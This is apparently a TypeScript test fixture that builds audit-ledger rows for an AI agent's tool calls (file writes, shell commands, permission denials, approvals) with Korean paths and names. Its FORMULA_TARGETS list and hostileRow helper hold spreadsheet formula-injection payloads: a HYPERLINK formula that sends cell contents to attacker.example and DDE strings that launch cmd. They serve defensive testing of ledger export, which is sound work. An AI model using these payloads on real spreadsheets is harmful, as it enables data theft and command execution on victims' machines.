import type { StoredEventBody } from '../../../electron/main/audit/ledger/canonical-event';

/** Realistic rows of one tool call in a Korean office, as the ledger stores them. */

export const KOREAN_PATH = 'C:\\Users\\김민수\\문서\\보고서.xlsx';
export const COMMAND_LINE = 'powershell -NoProfile -Command "Get-ChildItem C:\\Users\\김민수\\문서 | Select-Object Name"';

const BASE = {
  sessionId: 'sess-7f3a',
  osUser: 'minsu.kim',
  appUser: '김민수',
  hostId: 'PC-재무팀-07',
  tzOffsetMinutes: 540,
} as const;

export function row(seq: number, event: Omit<StoredEventBody, keyof typeof BASE | 'seq' | 'time'> & Partial<StoredEventBody>): StoredEventBody {
  return { ...BASE, seq, time: `2026-12-02T14:05:${String(seq % 60).padStart(2, '0')}.123Z`, ...event };
}

export const PROPOSED = row(11, {
  type: 'tool.proposed',
  callId: 'call-42',
  tool: 'fs.write',
  risk: 'write',
  actionClass: '수정',
  target: [KOREAN_PATH],
  data: { args: { path: KOREAN_PATH, content: '[redacted 2048 chars]' }, argsSha256: 'a3f1'.repeat(16) },
});

export const PERMISSION_DENIED = row(12, {
  type: 'permission.decided',
  callId: 'call-42',
  tool: 'fs.write',
  risk: 'write',
  actionClass: '수정',
  target: [KOREAN_PATH],
  decision: 'deny',
  rule: 'fs.write(C:\\Users\\*\\문서\\**)',
  ruleSource: 'admin',
});

export const APPROVAL = row(13, {
  type: 'approval.decided',
  callId: 'call-43',
  tool: 'shell.run',
  risk: 'execute',
  actionClass: '실행',
  target: [COMMAND_LINE],
  data: { digest: 'd1'.repeat(32), choice: 'session', approver: '이영희', waitedMs: 1234, reason: '월말 보고 "긴급", 확인함' },
});

export const STARTED = row(14, {
  type: 'execution.started',
  callId: 'call-43',
  tool: 'shell.run',
  risk: 'execute',
  actionClass: '실행',
  target: [COMMAND_LINE],
});

export const FINISHED = row(15, {
  type: 'execution.finished',
  callId: 'call-43',
  tool: 'shell.run',
  risk: 'execute',
  actionClass: '실행',
  outcome: 'ok',
  data: { durationMs: 842, outputChars: 311, outputSha256: 'be'.repeat(32), details: { exitCode: 0 } },
});

export const FAILED_NEGATIVE_EXIT = row(16, {
  type: 'execution.finished',
  callId: 'call-44',
  tool: 'shell.run',
  risk: 'execute',
  actionClass: '실행',
  outcome: 'error',
  data: { durationMs: 15, outputChars: 0, outputSha256: '00'.repeat(32), exitCode: -1, message: '-1 returned' },
});

export const READ_OK = row(17, {
  type: 'execution.finished',
  callId: 'call-45',
  tool: 'fs.read',
  risk: 'read',
  actionClass: '조회',
  target: ['C:\\Users\\김민수\\문서\\회의록.hwp'],
  outcome: 'ok',
  data: { durationMs: 3, outputChars: 5000, outputSha256: 'cd'.repeat(32) },
});

export const WEB_FETCH = row(18, {
  type: 'execution.started',
  callId: 'call-46',
  tool: 'web.fetch',
  risk: 'network',
  actionClass: '전송',
  target: ['https://intranet.example.kr/공지?id=7&lang=ko'],
});

/** A user prompt: no tool, no target, no data beyond the text. */
export const REQUEST = row(19, { type: 'request', data: { prompt: '보고서 요약해줘\n두 줄로' } });

export const GATE_ERROR = row(20, {
  type: 'gate.error',
  callId: 'call-47',
  tool: 'fs.read',
  data: { message: 'TypeError: x is undefined' },
});

/**
 * Cells an attacker would love a spreadsheet to evaluate: the model chooses paths and commands,
 * so any of these can reach the ledger as a target.
 */
export const FORMULA_TARGETS = [
  '=HYPERLINK("http://attacker.example/?leak="&A1,"클릭")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  ' =1+1',
];

export function hostileRow(seq: number, target: string): StoredEventBody {
  return row(seq, {
    type: 'tool.proposed',
    callId: `call-h${seq}`,
    tool: 'fs.read',
    risk: 'read',
    actionClass: '조회',
    target: [target, '두 번째 "대상", 쉼표 포함', 'line1\nline2\r\nline3'],
    data: { args: { path: target }, argsSha256: 'ff'.repeat(32), note: '=cmd|\' /C calc\'!A0' },
  });
}
